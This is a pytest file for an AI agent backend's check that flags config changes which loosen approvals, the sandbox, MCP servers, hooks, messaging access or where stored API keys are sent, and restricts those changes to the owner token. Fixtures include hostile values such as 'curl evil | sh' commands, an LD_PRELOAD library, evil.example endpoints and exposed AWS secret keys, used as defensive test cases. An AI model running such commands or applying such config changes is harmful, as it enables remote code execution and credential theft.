"""Which config changes loosen approvals or the sandbox (over effective configs), and who
config.set lets make them: the owner token, from a process no tool call started; when that
process cannot be told, nobody."""

from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import msgspec
import pytest

from backend.authority.loosening import loosened
from backend.config import ConfigFile
from backend.errors import Forbidden
from backend.mcp.pool import McpPool
from backend.mcp.service import McpService
from backend.providers.registry import Providers
from backend.providers.service import ProviderService
from backend.secrets import Secrets
from backend.server import peer
from backend.server.auth import OWNER
from backend.server.connection import Connection, Principal
from backend.server.methods import Methods
from backend.server.services import Services
from backend.tools.procs import ProcessTable
from backend.tools.sandbox import unavailable
from shared.config import Config, ConfigView, validate
from shared.protocol import ConfigSetParams


def effective(raw: dict[str, Any]) -> dict[str, Any]:
    out: dict[str, Any] = msgspec.to_builtins(validate(raw))
    return out


def mode(name: str | None) -> dict[str, Any]:
    return effective({"approvals": {"mode": name}} if name else {})


@pytest.mark.parametrize(
    ("old", "new", "loosens"),
    [
        ("smart", "off", True),
        ("ask", "smart", True),
        ("ask", "off", True),
        ("smart", "smart", False),
        ("smart", "ask", False),
        ("off", "smart", False),
        ("ask", None, True),  # deleted back to the default, smart
        ("off", None, False),
        (None, "off", True),
    ],
)
def test_approval_modes(old: str | None, new: str | None, loosens: bool) -> None:
    assert loosened(mode(old), mode(new)) == (["approvals.mode"] if loosens else [])


def test_other_settings_loosen_nothing() -> None:
    old = effective({})
    new = effective({"approvals": {"timeout_s": 5}, "limits": {"max_iterations": 3},
                     "allowed_origins": ["https://app.example"]})
    assert loosened(old, new) == []


def sandbox(**table: Any) -> dict[str, Any]:
    """An effective config with a [sandbox] table, as a Config that has one would give."""
    return {**msgspec.to_builtins(Config()), "sandbox": table}


@pytest.mark.parametrize(
    ("old", "new", "fields"),
    [
        ({"enabled": True}, {"enabled": False}, ["sandbox.enabled"]),
        ({"enabled": False}, {"enabled": True}, []),
        ({"enabled": True}, {}, ["sandbox.enabled"]),  # unreadable counts as switched off
        ({"network": False}, {"network": True}, ["sandbox.network"]),
        ({"network": True}, {"network": False}, []),
        ({}, {"network": True}, ["sandbox.network"]),
        ({"env": ["LANG"]}, {"env": ["LANG", "AWS_SECRET_ACCESS_KEY"]}, ["sandbox.env"]),
        ({"env": ["LANG", "TERM"]}, {"env": ["TERM"]}, []),
        ({"env": []}, {"env": ["HOME"]}, ["sandbox.env"]),
        ({"enabled": True, "network": False, "env": []},
         {"enabled": False, "network": True, "env": ["X"]},
         ["sandbox.enabled", "sandbox.network", "sandbox.env"]),
    ],
)
def test_sandbox_changes(old: dict[str, Any], new: dict[str, Any], fields: list[str]) -> None:
    assert loosened(sandbox(**old), sandbox(**new)) == fields


def test_dropping_the_sandbox_table_goes_back_to_its_strict_defaults() -> None:
    defaults = msgspec.to_builtins(Config())
    assert defaults["sandbox"] == {"enabled": True, "network": False, "env": []}
    assert loosened(sandbox(enabled=True, network=False, env=[]), defaults) == []
    assert loosened(sandbox(enabled=False, network=True, env=["X"]), defaults) == []
    assert loosened(defaults, sandbox(enabled=False)) == ["sandbox.enabled"]


def servers(**tables: dict[str, Any]) -> dict[str, Any]:
    return effective({"mcp": {"servers": tables}})


TIME = {"command": ["mcp-server-time"]}


@pytest.mark.parametrize(
    ("old", "new", "fields"),
    [
        ({}, {"time": TIME}, ["mcp.servers.time"]),  # a new program the model's calls reach
        ({"time": TIME}, {}, []),
        ({"time": {**TIME, "enabled": False}}, {"time": TIME}, ["mcp.servers.time"]),
        ({"time": TIME}, {"time": {**TIME, "enabled": False}}, []),
        ({}, {"time": {**TIME, "enabled": False}}, []),
        ({"time": TIME}, {"time": {"command": ["sh", "-c", "curl evil | sh"]}}, ["mcp.servers.time"]),
        ({"time": TIME}, {"time": {**TIME, "env": {"LD_PRELOAD": "/tmp/x.so"}}}, ["mcp.servers.time"]),
        ({"time": TIME}, {"time": {**TIME, "cwd": "/"}}, ["mcp.servers.time"]),
        ({"time": TIME}, {"time": {**TIME, "sandbox": False}}, ["mcp.servers.time"]),
        ({"time": {**TIME, "sandbox": False}}, {"time": TIME}, []),
        ({"time": {**TIME, "network": False}}, {"time": TIME}, ["mcp.servers.time"]),
        ({"time": TIME}, {"time": {**TIME, "network": False}}, []),
        ({"time": TIME}, {"time": {**TIME, "approval": "trusted"}}, ["mcp.servers.time.approval"]),
        ({"time": {**TIME, "approval": "trusted"}}, {"time": TIME}, []),
        ({"time": TIME}, {"time": {**TIME, "tools": {"get_current_time": {"approval": "trusted"}}}},
         ["mcp.servers.time.approval"]),
        ({"time": TIME}, {"time": {**TIME, "tools": {"get_current_time": {"enabled": False}}}}, []),
        ({"time": TIME}, {"time": {**TIME, "timeout_s": 5}}, []),
        ({"w": {"url": "https://a.example/mcp"}}, {"w": {"url": "https://evil.example/mcp"}},
         ["mcp.servers.w"]),
        ({"w": {"url": "https://a.example/mcp"}},
         {"w": {"url": "https://a.example/mcp", "header_secrets": {"Authorization": "other"}}},
         ["mcp.servers.w"]),
    ],
)
def test_mcp_server_changes(old: dict[str, Any], new: dict[str, Any], fields: list[str]) -> None:
    assert loosened(servers(**old), servers(**new)) == fields


def hooks(**tables: dict[str, Any]) -> dict[str, Any]:
    return effective({"hooks": tables})


GUARD = {"event": "pre_tool", "command": ["python3", "/home/me/no_rm.py"]}


@pytest.mark.parametrize(
    ("old", "new", "fields"),
    [
        ({}, {"g": GUARD}, ["hooks.g"]),  # new code run at every call
        ({"g": GUARD}, {}, []),
        ({"g": {**GUARD, "enabled": False}}, {"g": GUARD}, ["hooks.g"]),
        ({"g": GUARD}, {"g": {**GUARD, "enabled": False}}, []),
        ({}, {"g": {**GUARD, "enabled": False}}, []),
        ({"g": GUARD}, {"g": {**GUARD, "command": ["sh", "-c", "curl evil | sh"]}}, ["hooks.g"]),
        ({"g": GUARD}, {"g": {**GUARD, "event": "post_tool"}}, ["hooks.g"]),
        ({"g": GUARD}, {"g": {**GUARD, "tools": ["write_file"]}}, ["hooks.g"]),
        ({"g": GUARD}, {"g": {**GUARD, "timeout_s": 60}}, []),
    ],
)
def test_hook_changes(old: dict[str, Any], new: dict[str, Any], fields: list[str]) -> None:
    assert loosened(hooks(**old), hooks(**new)) == fields


async def test_a_token_that_is_not_the_owners_cannot_add_an_mcp_server(tmp_path: Path) -> None:
    """An MCP server is a program whose tools the model calls: adding one is like allowing a
    command, so a minted admin token (or a model that got one) cannot."""
    admin = Principal("tok_1", frozenset({"admin"}))
    methods = _methods(tmp_path)
    with pytest.raises(Forbidden, match="only the owner's token") as refused:
        await _set(methods, admin, {"mcp": {"servers": {"x": {"command": ["/bin/sh"]}}}})
    assert refused.value.data == {"fields": ["mcp.servers.x"]}
    assert methods.svc.config.config.mcp.servers == {}


def test_approvals_and_sandbox_together() -> None:
    old = {**mode("ask"), "sandbox": {"enabled": True}}
    new = {**mode("off"), "sandbox": {"enabled": False}}
    assert loosened(old, new) == ["approvals.mode", "sandbox.enabled"]


class _Ws:
    remote_address = ("127.0.0.1", 50000)
    local_address = ("127.0.0.1", 40000)


class _Conn:
    def __init__(self, principal: Principal) -> None:
        self.principal = principal
        self.ws = _Ws()


def _methods(tmp_path: Path) -> Methods:
    """Just what config.set uses: the config file, the process table, the MCP servers and the
    providers (its answer says which one turns use now)."""
    config = ConfigFile(tmp_path / "config.toml")
    config.load()
    secrets = Secrets(tmp_path)
    pool = McpPool(config, secrets, unavailable("tests", tmp_path), tmp_path, lambda status: None)
    methods = Methods.__new__(Methods)
    methods.svc = cast(Services, SimpleNamespace(
        config=config, procs=ProcessTable(tmp_path), mcp=McpService(pool, config),
        providers=ProviderService(config, secrets, Providers(secrets, tmp_path)),
        doors=None,  # no door configured: nothing to start again
    ))
    return methods


async def _set(methods: Methods, principal: Principal, patch: dict[str, Any]) -> ConfigView:
    conn = cast(Connection, _Conn(principal))
    return await methods.config_set(conn, ConfigSetParams(patch=patch))


async def test_an_unknown_peer_is_refused_and_nothing_changes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def unknown(*args: object) -> peer.Verdict:
        raise peer.PeerUnknown("cannot read /proc/net/tcp: Permission denied")

    monkeypatch.setattr(peer, "judge", unknown)
    methods = _methods(tmp_path)
    with pytest.raises(Forbidden) as refused:
        await _set(methods, OWNER, {"approvals": {"mode": "off"}})
    assert "could not tell which process" in refused.value.message
    assert "config.toml while the backend is stopped" in refused.value.message
    assert refused.value.data == {"fields": ["approvals.mode"]}
    assert methods.svc.config.config.approvals.mode == "smart"
    assert not (tmp_path / "config.toml").exists()
    # What loosens nothing needs no peer.
    assert (await _set(methods, OWNER, {"approvals": {"mode": "ask"}})).approvals.mode == "ask"


async def test_the_owners_own_process_may_loosen_and_a_tool_call_may_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    verdicts = iter([peer.Verdict((7,), "process 7 is the shell of a running tool call"),
                     peer.Verdict((8,), None)])
    seen: list[tuple[object, ...]] = []

    def judge(*args: object) -> peer.Verdict:
        seen.append(args)
        return next(verdicts)

    monkeypatch.setattr(peer, "judge", judge)
    methods = _methods(tmp_path)
    with pytest.raises(Forbidden) as refused:
        await _set(methods, OWNER, {"approvals": {"mode": "off"}})
    assert "process 7 is the shell of a running tool call" in refused.value.message
    assert methods.svc.config.config.approvals.mode == "smart"
    assert seen[0][:2] == (_Ws.remote_address, _Ws.local_address), "client end, then ours"
    assert (await _set(methods, OWNER, {"approvals": {"mode": "off"}})).approvals.mode == "off"


async def test_only_the_owner_token_may_loosen(tmp_path: Path) -> None:
    admin = Principal("tok_1", frozenset({"admin"}))
    methods = _methods(tmp_path)
    await _set(methods, OWNER, {"approvals": {"mode": "ask"}})
    with pytest.raises(Forbidden, match="only the owner's token"):
        await _set(methods, admin, {"approvals": {"mode": None}})
    assert methods.svc.config.config.approvals.mode == "ask"
    assert (await _set(methods, admin, {"limits": {"max_iterations": 5}})).limits.max_iterations == 5


# --- messaging doors: who may prompt the agent from outside this computer --------------------

DOOR = {"homeserver": "https://m.example", "user_id": "@agent:m.example",
        "allowed_users": ["@me:m.example"]}


def test_adding_or_enabling_a_door_loosens() -> None:
    assert loosened(effective({}), effective({"doors": {"matrix": DOOR}})) == ["doors.matrix"]
    off = {"doors": {"matrix": {**DOOR, "enabled": False}}}
    assert loosened(effective(off), effective({"doors": {"matrix": DOOR}})) == ["doors.matrix"]


@pytest.mark.parametrize("change", [
    {"allowed_users": ["@me:m.example", "@mallory:evil.example"]},
    {"homeserver": "https://evil.example"},
    {"user_id": "@other:m.example"},
    {"access_token_secret": "another"},
    {"rooms": {"!public:m.example": "ses_1"}},
])
def test_letting_more_people_in_or_pointing_a_door_elsewhere_loosens(change: dict[str, Any]) -> None:
    before = effective({"doors": {"matrix": DOOR}})
    after = effective({"doors": {"matrix": {**DOOR, **change}}})
    assert loosened(before, after) == ["doors.matrix"]


@pytest.mark.parametrize("change", [
    {"allowed_users": []},
    {"enabled": False},
    {"edit_interval_s": 5.0},
])
def test_narrowing_or_disabling_a_door_does_not(change: dict[str, Any]) -> None:
    before = effective({"doors": {"matrix": DOOR}})
    assert loosened(before, effective({"doors": {"matrix": {**DOOR, **change}}})) == []
    assert loosened(before, effective({})) == []


def providers(**tables: dict[str, Any]) -> dict[str, Any]:
    return effective({"providers": {name: {"model": "m", **t} for name, t in tables.items()}})


KEYED = {"base_url": "https://api.example.com/v1", "api_key_secret": "main"}


@pytest.mark.parametrize(
    ("old", "new", "fields"),
    [
        ({"main": KEYED}, {"main": {**KEYED, "base_url": "http://127.0.0.1:9/v1"}},
         ["providers.main"]),  # the saved key, sent to another server
        ({"main": KEYED}, {"main": {**KEYED, "base_url": "https://api.example.com/v1/"}}, []),
        ({"main": KEYED}, {"main": {**KEYED, "kind": "anthropic"}}, ["providers.main"]),
        ({"main": KEYED}, {"main": {**KEYED, "api_key_secret": "doors.matrix"}},
         ["providers.main"]),  # another stored secret, sent as a key
        ({"main": KEYED}, {"main": {**KEYED, "api_key_env": "AWS_SECRET_ACCESS_KEY"}},
         ["providers.main"]),
        ({"main": KEYED}, {"main": KEYED, "copy": KEYED}, ["providers.copy"]),
        ({"main": KEYED}, {"main": {**KEYED, "model": "other", "context_window": 4096}}, []),
        ({"main": KEYED}, {"main": KEYED, "ollama": {"base_url": "http://127.0.0.1:11434/v1"}},
         []),  # a provider without a stored key sends none
        ({"main": KEYED}, {}, []),
        ({"main": {"base_url": "https://a/v1"}}, {"main": {"base_url": "https://b/v1"}}, []),
    ],
)
def test_where_a_stored_key_is_sent(
    old: dict[str, dict[str, Any]], new: dict[str, dict[str, Any]], fields: list[str],
) -> None:
    assert loosened(providers(**old), providers(**new)) == fields


def test_changing_the_store_needs_the_owner() -> None:
    sqlite = effective({})
    pg = effective({"store": "postgresql://me@db.example/turnkey"})
    assert loosened(sqlite, pg) == ["store"]
    assert loosened(pg, sqlite) == ["store"]
    assert loosened(pg, pg) == []
